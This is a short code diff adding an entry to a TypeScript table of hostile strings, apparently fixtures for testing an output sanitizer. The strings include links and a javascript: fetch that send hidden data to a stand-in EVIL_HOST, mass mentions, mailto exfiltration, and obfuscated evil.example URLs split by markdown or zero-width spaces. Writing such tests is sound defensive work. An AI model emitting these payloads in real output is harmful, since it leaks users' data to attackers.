@@ -25,6 +25,8 @@ export const HOSTILE_WORDS: Record<string, (at: number) => string> = {
   slack: (at) => `<https://${EVIL_HOST}/c?d=${hidden(at)}|calendar> <!channel> <@U0EVIL>`,
   mention: () => `@evil_admin @here [admin](tg://user?id=666) ${secret}`,
   mail: (at) => `mailto:x@${EVIL_HOST}?body=${hidden(at)} tel:+431234`,
+  "in marks": (at) =>
+    `evil.**exam**ple/c?d=${hidden(at)} @**evil_admin** [_Confirm_] ev\u200bil.example/${hidden(at)}`,
   script: (at) =>
     `[open](javascript:fetch('//${EVIL_HOST}/${hidden(at)}')) data:text/html,${hidden(at)}`,
   "other dots": (at) =>
